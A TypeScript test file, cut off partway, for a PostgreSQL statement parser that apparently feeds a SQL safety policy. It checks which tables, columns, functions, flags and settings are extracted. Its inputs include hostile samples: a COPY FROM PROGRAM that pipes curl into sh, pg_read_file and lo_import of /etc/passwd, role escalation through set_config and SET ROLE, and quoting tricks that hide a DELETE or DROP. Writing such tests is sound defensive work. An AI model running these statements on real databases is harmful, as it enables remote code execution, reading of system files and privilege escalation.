// src/sql/parser.ts + facts.ts against the real libpg-query parser (no mocks).
// Facts are compared in a compact text form: tables 'schema.name:read+write',
// functions 'schema.name', columns 'table.name:access' ('?' for an unknown table).

import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { StatementFacts } from '../../src/sql/statement-facts.ts';
import { initParser, parseStatements, type ParsedStatement } from '../../src/sql/parser.ts';

before(async () => {
  await initParser();
});

function statements(sql: string): ParsedStatement[] {
  const parsed = parseStatements(sql);
  if (!parsed.ok) assert.fail(`${JSON.stringify(sql)} did not parse: ${parsed.message}`);
  return parsed.statements;
}

function one(sql: string): ParsedStatement {
  const all = statements(sql);
  assert.equal(all.length, 1, `${JSON.stringify(sql)}: expected one statement`);
  const first = all[0];
  assert.ok(first !== undefined);
  return first;
}

function facts(sql: string): StatementFacts {
  return one(sql).facts;
}

function tables(f: StatementFacts): string[] {
  return f.tables.map((t) => `${t.schema === null ? '' : t.schema + '.'}${t.name}:${t.access.join('+')}`);
}

function functions(f: StatementFacts): string[] {
  return f.functions.map((fn) => `${fn.schema === null ? '' : fn.schema + '.'}${fn.name}`);
}

function columns(f: StatementFacts): string[] {
  return f.columns.map((c) => `${c.table ?? '?'}.${c.name}:${c.access}`);
}

function flagsSet(f: StatementFacts): string[] {
  return Object.entries(f.flags)
    .filter(([, on]) => on)
    .map(([name]) => name);
}

function commands(sql: string): string[] {
  return statements(sql).map((s) => s.facts.command);
}

describe('simple DML', () => {
  test('SELECT: command, tables read, functions, columns', () => {
    const f = facts('SELECT id, total FROM orders WHERE created_at > now()');
    assert.equal(f.command, 'SELECT');
    assert.equal(f.sql, 'SELECT id, total FROM orders WHERE created_at > now()');
    assert.deepEqual(tables(f), ['orders:read']);
    assert.deepEqual(functions(f), ['now']);
    assert.deepEqual(columns(f), ['orders.id:read', 'orders.total:read', 'orders.created_at:read']);
    assert.deepEqual(flagsSet(f), []);
    assert.equal(f.parameter, null);
  });

  test('INSERT: target written, column list written', () => {
    const f = facts('INSERT INTO t (a, b) VALUES (1, now())');
    assert.equal(f.command, 'INSERT');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(columns(f), ['t.a:write', 't.b:write']);
    assert.deepEqual(functions(f), ['now']);
  });

  test('INSERT without a column list writes *', () => {
    assert.deepEqual(columns(facts('INSERT INTO t VALUES (1, 2)')), ['t.*:write']);
  });

  test('INSERT ... SELECT: target written, source read', () => {
    const f = facts('INSERT INTO archive SELECT * FROM orders WHERE id < 10');
    assert.deepEqual(tables(f), ['archive:write', 'orders:read']);
    assert.deepEqual(columns(f), ['orders.*:read', 'orders.id:read', 'archive.*:write']);
  });

  test('UPDATE ... RETURNING: SET targets written, WHERE and RETURNING read', () => {
    const f = facts('UPDATE s.accounts SET balance = balance - 1 WHERE id = 7 RETURNING id, balance');
    assert.equal(f.command, 'UPDATE');
    assert.deepEqual(tables(f), ['s.accounts:write']);
    assert.deepEqual(columns(f), [
      'accounts.balance:write',
      'accounts.balance:read',
      'accounts.id:read',
    ]);
  });

  test('UPDATE ... FROM: the FROM table is read', () => {
    const f = facts('UPDATE t SET a = u.a FROM u WHERE t.id = u.id');
    assert.deepEqual(tables(f), ['t:write', 'u:read']);
    assert.deepEqual(columns(f), ['t.a:write', 'u.a:read', 't.id:read', 'u.id:read']);
  });

  test('DELETE ... USING', () => {
    const f = facts('DELETE FROM t USING u WHERE t.id = u.id');
    assert.equal(f.command, 'DELETE');
    assert.deepEqual(tables(f), ['t:write', 'u:read']);
  });

  test('a table read and written has both accesses, listed once', () => {
    const f = facts('UPDATE t SET a = (SELECT max(a) FROM t)');
    assert.deepEqual(tables(f), ['t:read+write']);
    assert.deepEqual(functions(f), ['max']);
    assert.deepEqual(columns(f), ['t.a:write', 't.a:read']);
  });

  test('INSERT ... ON CONFLICT DO UPDATE: SET targets written, aliases resolved', () => {
    const f = facts('INSERT INTO t AS x (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a RETURNING x.a');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(columns(f), ['t.a:write', 't.a:read']); // excluded.a is t's column too
    const returning = facts('UPDATE t SET a = 1 RETURNING old.a, new.b');
    assert.deepEqual(columns(returning), ['t.a:write', 't.a:read', 't.b:read']);
  });

  test('joins: aliases resolve to table names; ambiguous unqualified columns have no table', () => {
    const f = facts('SELECT o.total, c.name, note FROM orders o JOIN crm.customers AS c ON c.id = o.customer_id');
    assert.deepEqual(tables(f), ['orders:read', 'crm.customers:read']);
    assert.deepEqual(columns(f), [
      'orders.total:read',
      'customers.name:read',
      '?.note:read',
      'customers.id:read',
      'orders.customer_id:read',
    ]);
  });

  test('subqueries, UNION arms and EXISTS are all searched', () => {
    const f = facts(
      'SELECT a FROM t WHERE b IN (SELECT b FROM u) UNION SELECT c FROM v WHERE EXISTS (SELECT 1 FROM w)',
    );
    assert.deepEqual(tables(f), ['t:read', 'u:read', 'v:read', 'w:read']);
  });

  test('the same table referenced twice is listed once', () => {
    assert.deepEqual(tables(facts('SELECT * FROM t a, t b, public.t')), ['t:read', 'public.t:read']);
  });

  test('functions in FROM, WHERE, ORDER BY and nested calls; deduplicated', () => {
    const f = facts(
      "SELECT lower(name) FROM generate_series(1, 3) g, t WHERE upper(lower(x)) = 'A' ORDER BY length(name), lower(name)",
    );
    assert.deepEqual(functions(f), ['lower', 'generate_series', 'upper', 'length']);
    assert.deepEqual(tables(f), ['t:read']);
  });

  test('schema-qualified and quoted function names', () => {
    const f = facts('SELECT pg_catalog.pg_read_file(\'x\'), "MyFunc"(1), Other.Fn()');
    assert.deepEqual(functions(f), ['pg_catalog.pg_read_file', 'MyFunc', 'other.fn']);
  });

  test('SELECT ... FOR UPDATE OF alias: locking flag, the aliased table is locked (written)', () => {
    // PostgreSQL requires UPDATE privilege for row locks: the locked table is a write.
    const f = facts('SELECT * FROM t x FOR UPDATE OF x');
    assert.deepEqual(flagsSet(f), ['locking']);
    assert.deepEqual(tables(f), ['t:read+write']);
  });

  test('FOR SHARE OF one table locks only that one; without OF every table read is locked', () => {
    assert.deepEqual(tables(facts('SELECT * FROM t, s.u FOR SHARE OF u')), ['t:read', 's.u:read+write']);
    assert.deepEqual(tables(facts('SELECT * FROM t JOIN u USING (id) FOR NO KEY UPDATE')), [
      't:read+write',
      'u:read+write',
    ]);
    // a CTE body is not locked by the outer FOR UPDATE
    assert.deepEqual(tables(facts('WITH c AS (SELECT * FROM w) SELECT * FROM c, t FOR UPDATE')), [
      'w:read',
      't:read+write',
    ]);
  });
});

describe('statement splitting', () => {
  test('one entry per statement, each with its own text', () => {
    const all = statements('SELECT 1; INSERT INTO t VALUES (1);\nDELETE FROM u');
    assert.deepEqual(
      all.map((s) => [s.facts.sql, s.facts.command]),
      [
        ['SELECT 1', 'SELECT'],
        ['INSERT INTO t VALUES (1)', 'INSERT'],
        ['DELETE FROM u', 'DELETE'],
      ],
    );
    assert.deepEqual(tables(all[2]?.facts ?? assert.fail()), ['u:write']);
  });

  test('byte offsets: multibyte text before a second statement', () => {
    const sql = "SELECT 'héllo wörld — 日本語 🎉'; DELETE FROM \"tablé\" WHERE note = '€'";
    const all = statements(sql);
    assert.deepEqual(
      all.map((s) => s.facts.sql),
      ["SELECT 'héllo wörld — 日本語 🎉'", "DELETE FROM \"tablé\" WHERE note = '€'"],
    );
    assert.deepEqual(tables(all[1]?.facts ?? assert.fail()), ['tablé:write']);
    for (const s of all) assert.ok(sql.includes(s.facts.sql));
  });

  test('multibyte identifiers and comments in the middle statement', () => {
    // PostgreSQL's statement location skips the leading comment.
    const all = statements('SELECT 1; /* ü */ SELECT * FROM "ñandú" ; SELECT \'ö\' -- trailing ü');
    assert.deepEqual(
      all.map((s) => s.facts.sql),
      ['SELECT 1', 'SELECT * FROM "ñandú"', "SELECT 'ö' -- trailing ü"],
    );
  });

  test('empty statements between semicolons are dropped; trailing whitespace trimmed', () => {
    assert.deepEqual(
      statements(' SELECT 1 ;;; SELECT 2;\n\n').map((s) => s.facts.sql),
      ['SELECT 1', 'SELECT 2'],
    );
  });

  test('empty input, whitespace and comment-only input: zero statements', () => {
    for (const sql of ['', '   \n\t', '-- only a comment', '/* block */', '/* a */ -- b\n ;; ']) {
      assert.deepEqual(parseStatements(sql), { ok: true, statements: [] }, JSON.stringify(sql));
    }
  });
});

describe('lexical traps: comments and quoting hide nothing and invent nothing', () => {
  test('a quote inside a block comment does not hide the next statement', () => {
    assert.deepEqual(commands("SELECT 1 /* ' */; DELETE FROM t /* ' */"), ['SELECT', 'DELETE']);
  });

  test('-- and $$ inside a block comment do not hide the next statement', () => {
    assert.deepEqual(commands('SELECT 1 /* -- */; DELETE FROM t'), ['SELECT', 'DELETE']);
    assert.deepEqual(commands('SELECT 1 /* $$ */; DELETE FROM t; SELECT /* $$ */ 2'), ['SELECT', 'DELETE', 'SELECT']);
  });

  test('nested block comments: what is inside stays inside', () => {
    const all = statements('SELECT 1 /* outer /* inner */ ; DELETE FROM t; */ ; SELECT 2');
    assert.deepEqual(all.map((s) => s.facts.command), ['SELECT', 'SELECT']);
    assert.deepEqual(all.flatMap((s) => tables(s.facts)), []);
  });

  test('/* inside a line comment opens nothing', () => {
    assert.deepEqual(commands('SELECT 1 -- /* \n; DELETE FROM t'), ['SELECT', 'DELETE']);
  });

  test('dollar quoting: a statement inside $$ or $tag$ is only text', () => {
    const all = statements("SELECT $$ ; DELETE FROM t; $$, $tag$ $$ ; DROP TABLE u; $tag$; SELECT 'x'");
    assert.deepEqual(all.map((s) => s.facts.command), ['SELECT', 'SELECT']);
    assert.deepEqual(all.flatMap((s) => tables(s.facts)), []);
  });

  test("E'' strings: a backslash-escaped quote keeps the string open", () => {
    const all = statements("SELECT E'\\'; DELETE FROM t; --'");
    assert.deepEqual(all.map((s) => s.facts.command), ['SELECT']);
    assert.deepEqual(tables(all[0]?.facts ?? assert.fail()), []);
  });

  test("standard strings: a backslash does not escape, so the DELETE is seen", () => {
    assert.deepEqual(commands("SELECT 'a\\'; DELETE FROM t; --'"), ['SELECT', 'DELETE']);
  });

  test('a quoted identifier may contain ; and quotes', () => {
    const f = facts('SELECT * FROM "a;b""c"');
    assert.deepEqual(tables(f), ['a;b"c:read']);
  });
});

describe('identifiers', () => {
  test('U&"..." identifiers arrive decoded', () => {
    assert.deepEqual(tables(facts('SELECT * FROM U&"d\\0061t\\+000061"')), ['data:read']);
    assert.deepEqual(tables(facts("SELECT * FROM U&\"!0074\" UESCAPE '!'")), ['t:read']);
  });

  test('unquoted names are case-folded, quoted names keep their case', () => {
    const f = facts('SELECT * FROM Orders, "Orders", "ORDERS", Sales.Q1');
    assert.deepEqual(tables(f), ['orders:read', 'Orders:read', 'ORDERS:read', 'sales.q1:read']);
  });

  test('names are truncated to 63 bytes', () => {
    const long = 'a'.repeat(70);
    assert.deepEqual(tables(facts(`SELECT * FROM ${long}`)), [`${'a'.repeat(63)}:read`]);
  });

  test('truncation to 63 bytes never splits a multibyte character', () => {
    // 'x' + 40 × 'é' (2 bytes each): 63 bytes keep 'x' + 31 'é'.
    const f = facts(`SELECT * FROM "x${'é'.repeat(40)}"`);
    assert.deepEqual(tables(f), [`x${'é'.repeat(31)}:read`]);
    assert.equal(Buffer.byteLength(f.tables[0]?.name ?? ''), 63);
    // 30 × '日' (3 bytes each): 21 fit exactly.
    assert.deepEqual(tables(facts(`SELECT * FROM "${'日'.repeat(30)}"`)), [`${'日'.repeat(21)}:read`]);
    // 'ab' + 20 × '🎉' (4 bytes each): 2 + 15 × 4 = 62, the 16th would pass 63.
    const emoji = facts(`SELECT * FROM "ab${'🎉'.repeat(20)}"`);
    assert.equal(emoji.tables[0]?.name, `ab${'🎉'.repeat(15)}`);
  });

  test('schema-qualified names; catalog.schema.table keeps the schema', () => {
    const f = facts('SELECT * FROM app.orders, mydb.billing.invoices, "My Schema"."My Table"');
    assert.deepEqual(tables(f), ['app.orders:read', 'billing.invoices:read', 'My Schema.My Table:read']);
  });
});

describe('CTEs', () => {
  test('data-modifying CTE: command SELECT, the DELETE target written, flag set', () => {
    const f = facts('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    assert.equal(f.command, 'SELECT');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(flagsSet(f), ['data_modifying_cte']);
  });

  test('CTE names referenced in FROM are not tables', () => {
    const f = facts('WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, c');
    assert.deepEqual(tables(f), ['c:read']);
    assert.deepEqual(flagsSet(f), []);
  });

  test('a non-recursive CTE body reading its own name reads the real table', () => {
    assert.deepEqual(tables(facts('WITH t AS (SELECT * FROM t) SELECT * FROM t')), ['t:read']);
  });

  test('a RECURSIVE CTE may reference itself', () => {
    const f = facts('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r');
    assert.deepEqual(tables(f), []);
  });

  test('a schema-qualified name is never a CTE', () => {
    assert.deepEqual(tables(facts('WITH t AS (SELECT 1) SELECT * FROM public.t, t')), ['public.t:read']);
  });

  test('a DML target named like a CTE is the real table', () => {
    assert.deepEqual(tables(facts('WITH t AS (SELECT 1) DELETE FROM t')), ['t:write']);
  });

  test('CTE scope ends with its statement', () => {
    assert.deepEqual(tables(facts('SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x')), ['x:read']);
  });

  test('data-modifying CTE feeding an INSERT', () => {
    const f = facts('WITH moved AS (DELETE FROM queue WHERE id < 10 RETURNING *) INSERT INTO done SELECT * FROM moved');
    assert.equal(f.command, 'INSERT');
    assert.deepEqual(tables(f), ['queue:write', 'done:write']);
    assert.ok(f.flags.data_modifying_cte);
  });
});

describe('writes below a harmless-looking top statement', () => {
  test('EXPLAIN ANALYZE DELETE is a write', () => {
    const f = facts('EXPLAIN ANALYZE DELETE FROM t');
    assert.equal(f.command, 'EXPLAIN');
    assert.deepEqual(tables(f), ['t:write']);
  });

  test('EXPLAIN DELETE (no ANALYZE) reports the inner access too', () => {
    assert.deepEqual(tables(facts('EXPLAIN (COSTS OFF) DELETE FROM t')), ['t:write']);
    assert.deepEqual(tables(facts('EXPLAIN SELECT * FROM t')), ['t:read']);
  });

  test('SELECT INTO: tag SELECT, into flag, new table written', () => {
    const f = facts('SELECT a INTO t2 FROM t');
    assert.equal(f.command, 'SELECT');
    assert.deepEqual(flagsSet(f), ['into']);
    assert.deepEqual(tables(f), ['t2:write', 't:read']);
  });

  test('CREATE TABLE AS and CREATE MATERIALIZED VIEW', () => {
    const ctas = facts('CREATE TABLE s.t2 AS SELECT * FROM t');
    assert.equal(ctas.command, 'CREATE TABLE AS');
    assert.deepEqual(flagsSet(ctas), ['into']);
    assert.deepEqual(tables(ctas), ['t:read', 's.t2:write']);
    const mv = facts('CREATE MATERIALIZED VIEW mv AS SELECT * FROM t');
    assert.equal(mv.command, 'CREATE MATERIALIZED VIEW');
    assert.deepEqual(tables(mv), ['t:read', 'mv:write']);
  });

  test('PREPARE p AS DELETE: inner facts kept in meta, top level shows the write', () => {
    const s = one('PREPARE p (int) AS DELETE FROM t WHERE id = $1');
    assert.equal(s.facts.command, 'PREPARE');
    assert.deepEqual(tables(s.facts), ['t:write']);
    assert.ok(s.meta.prepare !== null);
    assert.equal(s.meta.prepare.name, 'p');
    assert.equal(s.meta.prepare.inner.command, 'DELETE');
    assert.equal(s.meta.prepare.inner.sql, 'DELETE FROM t WHERE id = $1');
    assert.deepEqual(tables(s.meta.prepare.inner), ['t:write']);
  });

  test('PREPARE with parenthesised types and a comment before the inner statement', () => {
    const s = one('PREPARE "Q" (int, text[]) AS /* c */ SELECT * FROM t WHERE a = $1 AND b = ANY($2)');
    assert.equal(s.meta.prepare?.name, 'Q');
    assert.equal(s.meta.prepare?.inner.sql, 'SELECT * FROM t WHERE a = $1 AND b = ANY($2)');
    assert.equal(s.meta.prepare?.inner.command, 'SELECT');
  });

  test('EXECUTE p: meta.execute names it; EXPLAIN ANALYZE EXECUTE and CREATE TABLE AS EXECUTE too', () => {
    const s = one('EXECUTE p(1)');
    assert.equal(s.facts.command, 'EXECUTE');
    assert.equal(s.meta.execute, 'p');
    assert.deepEqual(tables(s.facts), []);
    assert.equal(one('EXPLAIN ANALYZE EXECUTE p(1)').meta.execute, 'p');
    const ctas = one('CREATE TABLE x AS EXECUTE p');
    assert.equal(ctas.meta.execute, 'p');
    assert.deepEqual(tables(ctas.facts), ['x:write']);
  });

  test('DEALLOCATE name and DEALLOCATE ALL', () => {
    const s = one('DEALLOCATE p');
    assert.equal(s.facts.command, 'DEALLOCATE');
    assert.equal(s.meta.deallocate, 'p');
    const all = one('DEALLOCATE ALL');
    assert.equal(all.facts.command, 'DEALLOCATE ALL');
    assert.equal(all.meta.deallocate, '');
    assert.equal(one('DEALLOCATE PREPARE q').meta.deallocate, 'q');
  });

  test('DECLARE CURSOR: inner facts in meta; FETCH, MOVE, CLOSE', () => {
    const s = one('DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE');
    assert.equal(s.facts.command, 'DECLARE CURSOR');
    assert.deepEqual(tables(s.facts), ['t:read+write']); // FOR UPDATE locks t
    assert.equal(s.meta.declareCursor?.name, 'c');
    assert.equal(s.meta.declareCursor?.inner.sql, 'SELECT * FROM t FOR UPDATE');
    assert.equal(s.meta.declareCursor?.inner.command, 'SELECT');
    assert.ok(s.meta.declareCursor?.inner.flags.locking);
    assert.deepEqual(commands('FETCH 10 FROM c; MOVE NEXT IN c; CLOSE c; CLOSE ALL'), [
      'FETCH',
      'MOVE',
      'CLOSE CURSOR',
      'CLOSE CURSOR ALL',
    ]);
  });

  test('COPY (DELETE ... RETURNING) TO STDOUT writes', () => {
    const f = facts('COPY (DELETE FROM t RETURNING *) TO STDOUT');
    assert.equal(f.command, 'COPY');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(flagsSet(f), []);
  });

  test('CREATE RULE actions and CREATE VIEW queries are searched', () => {
    assert.deepEqual(tables(facts('CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u')), ['t:write', 'u:write']);
    assert.deepEqual(tables(facts('CREATE VIEW v AS SELECT * FROM t')), ['v:write', 't:read']);
  });
});

describe('COPY', () => {
  test('COPY t FROM STDIN writes t', () => {
    const f = facts('COPY t FROM STDIN');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(columns(f), ['t.*:write']);
    assert.deepEqual(flagsSet(f), []);
  });

  test("COPY t (a) TO '/tmp/x' reads t into a server file", () => {
    const f = facts("COPY t (a, b) TO '/tmp/x'");
    assert.deepEqual(tables(f), ['t:read']);
    assert.deepEqual(columns(f), ['t.a:read', 't.b:read']);
    assert.deepEqual(flagsSet(f), ['copy_file']);
  });

  test("COPY t FROM PROGRAM 'x' runs a program", () => {
    const f = facts("COPY t FROM PROGRAM 'curl http://x | sh'");
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(flagsSet(f), ['copy_program']);
  });

  test('COPY (SELECT ...) TO STDOUT: inner query and its functions', () => {
    const f = facts('COPY (SELECT pg_read_file(path) FROM files) TO STDOUT WITH (FORMAT csv)');
    assert.deepEqual(tables(f), ['files:read']);
    assert.deepEqual(functions(f), ['pg_read_file']);
  });
});

describe('procedural and dangerous functions', () => {
  test('DO blocks: command DO, the body is not parsed', () => {
    const f = facts("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
    assert.equal(f.command, 'DO');
    assert.deepEqual(tables(f), []);
    assert.equal(facts("DO LANGUAGE plpgsql 'BEGIN END'").command, 'DO');
  });

  test('CALL proc(): the procedure and argument calls are functions', () => {
    const f = facts('CALL app.refresh_totals(now(), 1)');
    assert.equal(f.command, 'CALL');
    assert.deepEqual(functions(f), ['app.refresh_totals', 'now']);
  });

  test('set_config sets the parameter from a literal first argument', () => {
    const f = facts("SELECT set_config('role', 'admin', false)");
    assert.equal(f.command, 'SELECT');
    assert.equal(f.parameter, 'role');
    assert.deepEqual(functions(f), ['set_config']);
    assert.equal(facts("SELECT pg_catalog.set_config('Search_Path'::text, 'x', true)").parameter, 'search_path');
  });

  test('set_config with a computed name leaves parameter null (judge by function name)', () => {
    const f = facts("SELECT set_config(name, 'x', false) FROM params");
    assert.equal(f.parameter, null);
    assert.deepEqual(functions(f), ['set_config']);
  });

  // Regression: `parameter` holds one name, so a harmless first
  // set_config() used to hide a second one that changed role or client_encoding.
  test('several set_config calls naming different parameters leave parameter null', () => {
    assert.equal(facts("SELECT set_config('application_name', 'x', false), set_config('role', 'postgres', false)").parameter, null);
    assert.equal(facts("SELECT set_config('application_name', 'x', false), (SELECT set_config('client_encoding', 'SJIS', true))").parameter, null);
    assert.equal(facts("WITH a AS (SELECT set_config('search_path', 'x', true)) SELECT set_config('standard_conforming_strings', 'off', true) FROM a").parameter, null);
    // A computed name anywhere, before or after a literal one.
    assert.equal(facts("SELECT set_config(v.n, 'x', false), set_config('application_name', 'y', false) FROM (VALUES ('role')) v(n)").parameter, null);
    assert.equal(facts("SELECT set_config('application_name', 'y', false), set_config(v.n, 'x', false) FROM (VALUES ('role')) v(n)").parameter, null);
    // The same parameter twice is still that parameter.
    assert.equal(facts("SELECT set_config('search_path', 'a', true), set_config('SEARCH_PATH', 'b', true)").parameter, 'search_path');
    assert.deepEqual(functions(facts("SELECT set_config('application_name', 'x', false), set_config('role', 'postgres', false)")), ['set_config']);
  });

  test('set_config names written as escapes, casts and continuations are decoded', () => {
    assert.equal(facts("SELECT set_config(E'r\\x6fle', 'postgres', false)").parameter, 'role');
    assert.equal(facts("SELECT set_config(U&'\\0072ole', 'postgres', false)").parameter, 'role');
    assert.equal(facts("SELECT set_config(U&'!0072ole' UESCAPE '!', 'postgres', false)").parameter, 'role');
    assert.equal(facts("SELECT set_config('ro'\n'le', 'postgres', false)").parameter, 'role');
    assert.equal(facts("SELECT set_config(text 'role', 'postgres', false)").parameter, 'role');
    assert.equal(facts("SELECT set_config($$client_encoding$$, 'SJIS', false)").parameter, 'client_encoding');
    assert.equal(facts("SELECT \"pg_catalog\".\"set_config\"('Client_Encoding', 'SJIS', false)").parameter, 'client_encoding');
    // Not a literal: the policy judges set_config by its name.
    assert.equal(facts("SELECT set_config('ro' || 'le', 'postgres', false)").parameter, null);
    assert.equal(facts("SELECT set_config('role' COLLATE \"C\", 'postgres', false)").parameter, null);
    assert.equal(facts("SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)").parameter, null);
  });

  test('pg_read_file, lo_import and dblink are reported as functions', () => {
    assert.deepEqual(functions(facts("SELECT pg_read_file('/etc/passwd')")), ['pg_read_file']);
    assert.deepEqual(functions(facts("SELECT lo_import('/etc/passwd')")), ['lo_import']);
    const f = facts("SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)");
    assert.deepEqual(functions(f), ['dblink']);
    assert.deepEqual(tables(f), []); // SQL inside a string is invisible: deny dblink by name
  });

  test('functions in DEFAULT expressions, CTEs, index expressions and WHERE', () => {
    assert.deepEqual(functions(facts("CREATE TABLE t (id int DEFAULT nextval('s'), at timestamptz DEFAULT now())")), [
      'nextval',
      'now',
    ]);
    assert.deepEqual(functions(facts('WITH x AS (SELECT random() r) SELECT * FROM x WHERE abs(r) > 0')), [
      'random',
      'abs',
    ]);
    assert.deepEqual(functions(facts('CREATE INDEX i ON t (lower(email))')), ['lower']);
  });
});

describe('SET, RESET, SHOW and roles', () => {
  test("SET ROLE: command 'SET ROLE', parameter role", () => {
    for (const sql of ['SET ROLE admin', 'SET LOCAL ROLE NONE', "SET role = 'admin'", 'SET SESSION ROLE x']) {
      const f = facts(sql);
      assert.equal(f.command, 'SET ROLE', sql);
      assert.equal(f.parameter, 'role', sql);
    }
  });

  test('SET SESSION AUTHORIZATION', () => {
    const f = facts("SET SESSION AUTHORIZATION 'postgres'");
    assert.equal(f.command, 'SET SESSION AUTHORIZATION');
    assert.equal(f.parameter, 'session_authorization');
    assert.equal(facts('SET SESSION AUTHORIZATION DEFAULT').command, 'SET SESSION AUTHORIZATION');
  });

  test('RESET ROLE, RESET SESSION AUTHORIZATION, RESET ALL', () => {
    assert.deepEqual([facts('RESET ROLE').command, facts('RESET ROLE').parameter], ['RESET', 'role']);
    assert.equal(facts('RESET SESSION AUTHORIZATION').parameter, 'session_authorization');
    const all = facts('RESET ALL');
    assert.equal(all.command, 'RESET');
    assert.equal(all.parameter, 'all');
  });

  test('SET client_encoding, SET NAMES, SET TIME ZONE, SET SCHEMA: canonical names', () => {
    assert.deepEqual([facts("SET client_encoding = 'SJIS'").command, facts("SET client_encoding = 'SJIS'").parameter], [
      'SET',
      'client_encoding',
    ]);
    assert.equal(facts("SET NAMES 'SJIS'").parameter, 'client_encoding');
    assert.equal(facts("SET TIME ZONE 'UTC'").parameter, 'timezone');
    assert.equal(facts("SET SCHEMA 'x'").parameter, 'search_path');
    assert.equal(facts('SET "Standard_Conforming_Strings" TO off').parameter, 'standard_conforming_strings');
  });

  test('SET TRANSACTION and SET CONSTRAINTS', () => {
    const f = facts('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE');
    assert.equal(f.command, 'SET');
    assert.equal(f.parameter, 'transaction');
    assert.equal(facts('SET CONSTRAINTS ALL DEFERRED').command, 'SET CONSTRAINTS');
  });

  test('SHOW: lower-cased parameter', () => {
    const f = facts('SHOW Work_Mem');
    assert.equal(f.command, 'SHOW');
    assert.equal(f.parameter, 'work_mem');
    assert.equal(facts('SHOW ALL').parameter, 'all');
  });

  test('ALTER SYSTEM SET / RESET', () => {
    const f = facts("ALTER SYSTEM SET shared_preload_libraries = 'x'");
    assert.equal(f.command, 'ALTER SYSTEM');
    assert.equal(f.parameter, 'shared_preload_libraries');
    assert.equal(facts('ALTER SYSTEM RESET ALL').parameter, 'all');
  });

  test('ALTER ROLE ... SET carries the parameter', () => {
    const f = facts('ALTER ROLE app SET search_path = app, public');
    assert.equal(f.command, 'ALTER ROLE');
    assert.equal(f.parameter, 'search_path');
  });

  test('CREATE ROLE, ALTER ROLE, DROP ROLE, GRANT ROLE / REVOKE ROLE', () => {
    assert.deepEqual(commands('CREATE ROLE r LOGIN; ALTER ROLE r SUPERUSER; DROP ROLE r; GRANT admin TO r; REVOKE admin FROM r'), [
      'CREATE ROLE',
      'ALTER ROLE',
      'DROP ROLE',
      'GRANT ROLE', // role membership has its own tag, distinct from GRANT on objects
      'REVOKE ROLE',
    ]);
  });
});

describe('other statements', () => {
  test('MERGE: target written, source read, SET and INSERT columns written', () => {
    const f = facts(
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a ' +
        'WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)',
    );
    assert.equal(f.command, 'MERGE');
    assert.deepEqual(tables(f), ['t:write', 's:read']);
    assert.deepEqual(columns(f), ['t.id:read', 's.id:read', 't.a:write', 's.a:read', 't.id:write']);
  });

  test('TRUNCATE writes every table', () => {
    const f = facts('TRUNCATE a, s.b RESTART IDENTITY');
    assert.equal(f.command, 'TRUNCATE TABLE');
    assert.deepEqual(tables(f), ['a:write', 's.b:write']);
  });

  test('GRANT / REVOKE on tables write them', () => {
    const f = facts('GRANT SELECT, UPDATE (a) ON t, s.u TO reader');
    assert.equal(f.command, 'GRANT');
    assert.deepEqual(tables(f), ['t:write', 's.u:write']);
    const r = facts('REVOKE ALL ON ALL TABLES IN SCHEMA public FROM reader');
    assert.equal(r.command, 'REVOKE');
    assert.deepEqual(tables(r), []);
  });

  test('LOCK TABLE: default mode writes, ACCESS SHARE reads; locking flag', () => {
    const f = facts('LOCK TABLE t');
    assert.equal(f.command, 'LOCK TABLE');
    assert.deepEqual(tables(f), ['t:write']);
    assert.deepEqual(flagsSet(f), ['locking']);
    assert.deepEqual(tables(facts('LOCK TABLE t, u IN ACCESS SHARE MODE')), ['t:read', 'u:read']);
    assert.deepEqual(tables(facts('LOCK t IN ROW SHARE MODE')), ['t:write']);
  });

  test('transaction control: commands and meta.transaction', () => {
    const all = statements(
      "BEGIN; START TRANSACTION; SAVEPOINT s; RELEASE SAVEPOINT s; ROLLBACK TO s; COMMIT; END; ROLLBACK; ABORT; PREPARE TRANSACTION 'g'; COMMIT PREPARED 'g'",
    );
    assert.deepEqual(
      all.map((s) => [s.facts.command, s.meta.transaction]),
      [
        ['BEGIN', 'begin'],
        ['BEGIN', 'begin'],
        ['SAVEPOINT', 'savepoint'],
        ['RELEASE', 'release'],
        ['ROLLBACK', 'rollback_to'],
        ['COMMIT', 'commit'],
        ['COMMIT', 'commit'],
        ['ROLLBACK', 'rollback'],
        ['ROLLBACK', 'rollback'],
        ['PREPARE TRANSACTION', 'prepare_transaction'],
        ['COMMIT PREPARED', null],
      ],
    );
  });

  test('DDL on tables: targets written, referenced tables read', () => {
    const f = facts('CREATE TABLE t (a int REFERENCES u (id), LIKE v)');
    assert.equal(f.command, 'CREATE TABLE');
    assert.deepEqual(tables(f), ['t:write', 'u:read', 'v:read']);
    assert.deepEqual(tables(facts('ALTER TABLE t ADD COLUMN b int')), ['t:write']);
    assert.deepEqual(tables(facts('CREATE INDEX CONCURRENTLY i ON s.t (a)')), ['s.t:write']);
    assert.equal(facts('CREATE INDEX i ON t (a)').command, 'CREATE INDEX');
  });

  test('DROP: tag from the object type; relations named in DROP are written', () => {
    const drop = facts('DROP TABLE a, s.b CASCADE');
    assert.equal(drop.command, 'DROP TABLE');
    assert.deepEqual(tables(drop), ['a:write', 's.b:write']);
    assert.deepEqual(tables(facts('DROP TRIGGER g ON s.t')), ['s.t:write']);
    assert.deepEqual(commands('DROP INDEX i; DROP FUNCTION f(int); DROP VIEW v; DROP SCHEMA x; DROP EXTENSION e'), [
